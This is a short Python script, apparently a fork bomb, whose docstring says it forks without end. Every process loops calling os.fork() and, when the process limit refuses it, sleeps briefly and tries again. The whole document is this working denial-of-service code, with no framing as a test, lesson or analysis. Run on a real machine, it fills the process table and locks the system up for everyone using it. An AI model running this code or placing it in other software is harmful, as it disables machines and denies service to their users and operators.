"""Forks without end: every process keeps forking, and keeps trying when
the process limit refuses it."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
